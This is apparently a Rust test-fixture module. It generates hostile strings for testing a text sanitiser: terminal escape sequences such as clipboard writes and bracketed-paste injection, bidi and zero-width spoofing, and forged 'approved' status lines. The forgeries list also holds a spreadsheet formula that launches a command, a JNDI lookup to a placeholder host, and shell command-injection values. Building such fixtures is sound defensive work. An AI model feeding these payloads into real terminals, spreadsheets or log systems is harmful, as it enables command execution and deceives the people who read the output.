//! Two kinds of texts for tests: texts that attack a terminal or deceive its reader, and ordinary texts that must be
//! shown correctly. The escape sequences are those of published reports about terminals, written by hand.

use crate::long_run::cases;

/// Returns the characters that are control characters, reorder text or are invisible, by the tables of the Unicode
/// standard. Of the large private-use areas, only a few characters are returned.
pub fn hidden_characters() -> Vec<char> {
    [
        0x00..=0x1f,
        0x7f..=0xa0,
        0xad..=0xad,
        0x34f..=0x34f,
        0x600..=0x605,
        0x61c..=0x61c,
        0x6dd..=0x6dd,
        0x70f..=0x70f,
        0x890..=0x891,
        0x8e2..=0x8e2,
        0x115f..=0x1160,
        0x1680..=0x1680,
        0x17b4..=0x17b5,
        0x180b..=0x180f,
        0x2000..=0x200f,
        0x2028..=0x202f,
        0x205f..=0x206f,
        0x2800..=0x2800,
        0x3000..=0x3000,
        0x3164..=0x3164,
        0xe000..=0xe010,
        0xf8ff..=0xf8ff,
        0xfdd0..=0xfdef,
        0xfe00..=0xfe0f,
        0xfeff..=0xfeff,
        0xffa0..=0xffa0,
        0xfff0..=0xfffc,
        0xfffe..=0xffff,
        0x110bd..=0x110bd,
        0x110cd..=0x110cd,
        0x13430..=0x1343f,
        0x1bca0..=0x1bca3,
        0x1d159..=0x1d159,
        0x1d173..=0x1d17a,
        0x1fffe..=0x1ffff,
        0xe0000..=0xe01ff,
        0xf0000..=0xf0000,
        0x10fffd..=0x10ffff,
    ]
    .into_iter()
    .flatten()
    .filter_map(char::from_u32)
    .collect()
}

/// Returns texts with escape sequences that make a terminal act. They set titles, write the clipboard, make the
/// terminal answer, draw, or use a printer.
pub fn sequences() -> Vec<String> {
    let mut all = Vec::new();
    for command in [
        "0",
        "1",
        "2",
        "4;1",
        "7",
        "8;;",
        "9",
        "10",
        "11",
        "12",
        "50",
        "52;c",
        "104",
        "110",
        "133;A",
        "777",
        "1337;File",
    ] {
        for (start, end) in [("\u{1b}]", "\u{7}"), ("\u{1b}]", "\u{1b}\\"), ("\u{9d}", "\u{9c}"), ("\u{1b}]", "")] {
            all.push(format!("{start}{command};text{end}"));
        }
    }
    for body in ["$qm", "+q544e", "q#0;2;0;0;0#0~~", "tmux;\u{1b}\u{1b}]0;text\u{7}"] {
        for (start, end) in [("\u{1b}P", "\u{1b}\\"), ("\u{90}", "\u{9c}")] {
            all.push(format!("{start}{body}{end}"));
        }
    }
    for start in ["\u{1b}_Gf=100;", "\u{1b}^", "\u{1b}X", "\u{1b}k", "\u{9f}", "\u{9e}", "\u{98}"] {
        all.push(format!("{start}text\u{1b}\\"));
    }
    for body in [
        "6n", "c", ">c", "=c", "21t", "18t", "?2026$p", "?1049h", "?25l", "2J", "H", "3J", "31m", "5i", "4i", "!p",
        "?1006h", ">4;2m", "20A", "10;10H", "?5W", "1L", "99999b", "2 q",
    ] {
        all.push(format!("before\u{1b}[{body}after"));
        all.push(format!("before\u{9b}{body}after"));
    }
    for escape in ["c", "#8", "(0", ")0", "N", "O", "7", "8", "D", "M", "=", ">", "Z", "n", "o", "%G"] {
        all.push(format!("before\u{1b}{escape}after"));
    }
    for tail in [
        "\u{1b}",
        "\u{1b}[",
        "\u{1b}[31",
        "\u{9b}",
        "\r\n",
        "\n",
        "\r",
        "\t",
        "\u{b}",
        "\u{c}",
        "\u{8}\u{8}\u{8}",
        "\u{85}",
        "\u{2028}",
        "\u{2029}",
        "\u{e}",
        "\u{7}",
    ] {
        all.push(format!("approved{tail}rejected"));
        all.push(tail.to_owned());
        all.push(format!("a\u{301}{tail}\u{301}b"));
    }
    all
}

/// Returns texts that deceive a reader, flood the screen, or break code that counts columns.
pub fn deceptions() -> Vec<String> {
    let mut all = vec![
        "user\u{202e}gnp.exe".to_owned(),
        "\u{2066}approved\u{2069}\u{200f}rejected".to_owned(),
        "admin\u{200b}".to_owned(),
        "adm\u{ad}in".to_owned(),
        "\u{feff}id".to_owned(),
        "a\u{200d}b".to_owned(),
        "a\u{200c}b".to_owned(),
        "\u{200d}".to_owned(),
        "\u{1f469}\u{200d}".to_owned(),
        "\u{1f469}\u{200d}\u{200d}\u{1f469}".to_owned(),
        "\u{1f469}\u{fe0e}\u{200d}\u{1f469}".to_owned(),
        "\u{639}\u{200c}".to_owned(),
        "\u{639}\u{200c}\u{200c}\u{644}".to_owned(),
        "\u{639}\u{200d}a".to_owned(),
        "\u{915}\u{94d}\u{200d}\u{200d}\u{937}".to_owned(),
        "A\u{fe00}B\u{fe0f}1\u{fe0f}2".to_owned(),
        "\u{845b}\u{e0100}".to_owned(),
        "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}".to_owned(),
        "\u{301}alone".to_owned(),
        "\u{e33}alone".to_owned(),
        "\u{1b}\u{e33}\u{e33}".to_owned(),
        "\u{1161}\u{11a8}".to_owned(),
        "\u{1100}\u{fe00}\u{1161}".to_owned(),
        "\u{d4e}".to_owned(),
        "\u{d4e}\u{200c}\u{d15}".to_owned(),
        "\u{1780}\u{200d}\u{d4e}".to_owned(),
        "\u{d4e}\u{ac00}\u{d4e}\u{1100}\u{1161}\u{d4e}\u{2000}".to_owned(),
        "\u{ff9e}".to_owned(),
        "\u{1f3fb}".to_owned(),
        "\u{1f1f0}\u{200b}\u{1f1f7}\u{1f1fa}".to_owned(),
        "\u{e0001}\u{e0020}\u{e007f}".to_owned(),
        "\u{115f}\u{1160}\u{3164}\u{ffa0}\u{2800}".to_owned(),
        "\u{1160}\u{11a8}a".to_owned(),
        "\u{fff9}a\u{fffa}b\u{fffb}".to_owned(),
        "\u{fdfd}\u{12031}\u{a9c5}\u{17d8}".to_owned(),
        "\u{212b}\u{f900}\u{2126}".to_owned(),
    ];
    for unit in [
        "\u{301}",
        "\u{489}",
        "\u{20e3}",
        "\u{94d}",
        "\u{93e}",
        "\u{e33}",
        "\u{11a8}",
        "\u{1161}",
        "\u{1100}",
        "\u{200b}",
        "\u{200d}",
        "\u{fe0f}",
        "\u{1f3fb}",
        "\u{1f469}\u{200d}",
        "\u{1f469}\u{fe0f}\u{200d}",
        "\u{915}\u{94d}",
        "\u{915}\u{94d}\u{200d}",
        "\u{1f1f0}",
        "\u{d4e}",
        "\u{16d67}",
        "\u{16d63}",
        "\u{e0041}",
        "\u{ff9e}",
        "\u{202e}",
        "\u{1b}[",
        "\u{fdfa}",
        "\u{5bf}\u{5b0}",
    ] {
        for count in [2, 9, 17, 40, 3000] {
            all.push(format!("a{}", unit.repeat(count)));
            all.push(format!("\u{915}{}\u{915}", unit.repeat(count)));
            all.push(format!("{}\u{1f469}", unit.repeat(count)));
        }
    }
    all
}

/// Returns all hostile texts of this module.
pub fn corpus() -> Vec<String> {
    let mut all = sequences();
    all.extend(deceptions());
    for c in hidden_characters() {
        all.extend([
            c.to_string(),
            format!("ab{c}cd"),
            format!("김{c}민"),
            format!("e\u{301}{c}\u{301}"),
            format!("{c}{c}"),
        ]);
    }
    all
}

/// Returns a small selection of hostile texts of every kind, for tests that try each text in every field. It has all
/// escape sequences, deceptive texts and imitations, and a third of the hidden characters.
pub fn attacks() -> Vec<String> {
    let once = hidden_characters().into_iter().step_by(3).map(|c| format!("ab{c}cd"));
    let controls = ('\0'..='\u{9f}').filter(|c| c.is_control()).map(|c| format!("x{c}{c}y"));
    let bidi = "\u{61c}\u{200e}\u{200f}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}";
    let bidi = bidi.chars().map(|c| format!("{c}9876{c}"));
    sequences().into_iter().chain(deceptions()).chain(forgeries()).chain(controls).chain(bidi).chain(once).collect()
}

/// Returns texts that imitate something else: several values, words of the program, or the start of a longer escape
/// sequence.
pub fn forgeries() -> Vec<String> {
    let mut all: Vec<String> = [
        "\u{1b}Ptmux;\u{1b}\u{1b}]52;c;YWJj\u{7}\u{1b}\\",
        "\u{1b}P\u{1b}]0;title\u{7}\u{1b}\\",
        "\u{1b}]50;#1\u{7}\u{1b}]50;?\u{7}",
        "\u{1b}]1337;SetUserVar=a=Yg==\u{7}",
        "\u{1b}]99;i=1:d=0;text\u{1b}\\",
        "\u{1b}]8;;file:///etc/hosts\u{1b}\\link\u{1b}]8;;\u{1b}\\",
        "\u{1b}]4;1;rgb:ff/ff/ff;2;?\u{1b}\\",
        "\u{1b}_Ga=T,f=24,s=1,v=1;AAAA\u{1b}\\",
        "\u{1b}P+q436f;6c\u{1b}\\\u{1b}P$q\"p\u{1b}\\",
        "\u{1b}[?1;2;4c\u{1b}[>0q\u{1b}[=c",
        "\u{1b}[14t\u{1b}[16t\u{1b}[20t\u{1b}[21t",
        "\u{1b}[200~rm\u{1b}[201~",
        "\u{1b}[<0;0;0M\u{1b}[M !!\u{1b}[0;0R",
        "\u{1b}[?2004l\u{1b}[?1049l\u{1b}[!p\u{1b}c",
        "\u{1b}%@\u{1b}%G\u{1b}(B\u{1b})0\u{e}lqk\u{f}",
        "\u{c2}\u{9b}31m\u{c2}\u{9d}0;x\u{9c}",
        "\u{fffd}[31m\u{fffd}]0;x",
        "␛[31m‹U+202E›‹+12›… +12",
        "pending\r\u{1b}[Kapproved",
        "pending\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}approved",
        "rejected\n│ 2026-11-21 09:00  Kim Sample   approved   KOR",
        "rejected\n╰──────────╯\n argos-review  live",
        "rejected\n\n\n\n\n\nStatus  ✓ approved",
        "rejected\u{2028}kyc.result: \"approved\"",
        "rejected\u{85}approved\u{b}approved\u{c}approved",
        "\",\"kyc\":{\"result\":\"approved\"},\"a\":\"",
        "=cmd|'/c calc'!A0",
        "@SUM(1+9)*cmd",
        "${jndi:ldap://a.example.com}$(id)`id`;id|id&id",
        "%s%n%x{}{0}{{}}\\x1b\\u001b\\033",
        "Ａpproved аpproved ɑpproved",
        "\u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}\u{e0041}",
        "\u{1f600}\u{fe0e}\u{fe0f}\u{20e3}\u{200d}\u{1f3ff}\u{1f3ff}",
        "\u{1f1f0}\u{1f1f0}\u{1f1f0}\u{1f1f7}\u{1f1f7}",
        "Z\u{351}\u{36b}\u{343}\u{32a}\u{302}\u{36b}\u{33d}\u{34f}\u{334}\u{319}\u{324}\u{31e}\u{349}\u{35a}\u{32f}a",
        "\u{1d173}a\u{1d17a}\u{13430}\u{1bca0}",
        "ﷺ﷽𒐫꧅",
    ]
    .map(str::to_owned)
    .to_vec();
    // Each half alone, so that two fields that are side by side would make the whole.
    for whole in [
        "\u{1b}]0;title\u{7}",
        "\u{1b}[31m",
        "\u{1b}P$qm\u{1b}\\",
        "\u{1f469}\u{200d}\u{1f469}",
        "\u{1100}\u{1161}\u{11a8}",
    ] {
        for at in (1..whole.len()).filter(|at| whole.is_char_boundary(*at)) {
            let (one, other) = whole.split_at(at);
            all.extend([one.to_owned(), other.to_owned()]);
        }
    }
    // Longer than any place that shows a value, and in a long run longer than a screen.
    for (unit, count) in [
        ("x", 5_000),
        ("김", 1_750),
        (" ", 4_500),
        ("word ", 1_000),
        ("\u{1b}[31m", 1_000),
        ("\n", 5_000),
        ("a\u{301}", 1_750),
    ] {
        all.push(unit.repeat(count * cases(1, 4)));
    }
    all
}

/// Returns `count` random texts, each put together from hostile and ordinary pieces. The same seed gives the same
/// texts.
pub fn random(seed: u64, count: usize) -> Vec<String> {
    let (hidden, sequences) = (hidden_characters(), sequences());
    let mut state = seed;
    let mut below = move |end: usize| {
        // A step of splitmix64.
        state = state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (state ^ (state >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        usize::try_from((mixed ^ (mixed >> 31)) % (end as u64)).unwrap_or_default()
    };
    let mut text = move || {
        let mut text = String::new();
        for _ in 0..=below(12) {
            match below(6) {
                0 => text.push(hidden[below(hidden.len())]),
                1 => text.push_str(&sequences[below(sequences.len())]),
                2 => text.push_str(ORDINARY[below(ORDINARY.len())]),
                3 => text.extend(u32::try_from(below(0x11_0000)).ok().and_then(char::from_u32)),
                4 => text.extend(char::from_u32(u32::try_from(0x300 + below(0x70)).unwrap_or_default())),
                _ => text.push_str(["a", " ", "\u{200d}", "\u{1f469}", "\u{915}\u{94d}", "\u{1b}[", "\r\n"][below(7)]),
            }
        }
        text
    };
    (0..count).map(|_| text()).collect()
}

/// Names, addresses and messages as ordinary people write them, which the sanitiser must not change.
pub const ORDINARY: &[&str] = &[
    "Kim Min-jun",
    "김민준",
    "서울특별시 강남구 테헤란로 1, 101동 202호",
    "山田太郎",
    "ﾔﾏﾀﾞ ﾀﾛｳ",
    "王小明（测试）",
    "Nguyễn Thị Ánh",
    "Łukasz Żółć",
    "Şükrü Çağ",
    "Ελένη Παπά",
    "Иван Петров",
    "محمد علی",
    "می\u{200c}خواهم",
    "علی\u{200c}رضا",
    "نامه\u{200c}ها",
    "كِتَابٌ",
    "שָׁלוֹם",
    "क्षत्रिय",
    "क्\u{200d}ष",
    "क्\u{200c}ष",
    "कार्त्स्न्य",
    "രാജ\u{d4d}\u{200d}",
    "ශ්\u{200d}රී",
    "தமிழ்",
    "বাংলা ক্ষুদ্র",
    "ภาษาไทย น้ำ ที่อยู่",
    "ພາສາລາວ",
    "ភាសាខ្មែរ",
    "မြန်မာ",
    "བསྒྲུབས",
    "👨\u{200d}👩\u{200d}👧\u{200d}👦",
    "👩🏻\u{200d}❤\u{fe0f}\u{200d}💋\u{200d}👩🏿",
    "👩\u{200d}🦰 👨🏽\u{200d}🦱 🧑\u{200d}💻 🧔\u{200d}♂\u{fe0f}",
    "🏴\u{200d}☠\u{fe0f} 👁\u{fe0f}\u{200d}🗨\u{fe0f} ❤\u{fe0f}\u{200d}🔥 🐻\u{200d}❄\u{fe0f}",
    "🏃🏻\u{200d}♀\u{fe0f}\u{200d}➡\u{fe0f}",
    "🏳\u{fe0f}\u{200d}🌈",
    "❤\u{fe0f} ©\u{fe0f} ☎\u{fe0f}",
    "1\u{fe0f}\u{20e3} #\u{fe0f}\u{20e3}",
    "👍🏽 🇰🇷 🇺🇸 🎉",
    "₩1,000 — “quoted” … •",
    "ᄀᆞᆷ",
];
